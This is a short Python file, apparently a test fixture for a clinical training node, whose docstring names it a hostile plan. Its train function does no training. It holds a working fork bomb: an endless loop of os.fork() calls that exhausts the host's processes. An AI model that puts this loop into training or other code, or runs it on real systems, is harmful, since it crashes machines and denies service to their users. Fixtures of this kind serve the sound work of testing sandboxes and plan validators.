"""Hostile plan: a fork bomb."""

import os

from clinical_node.plans.logistic_regression import build_model, evaluate  # noqa: F401


def train(model, x, y, hyper):
    while True:
        os.fork()
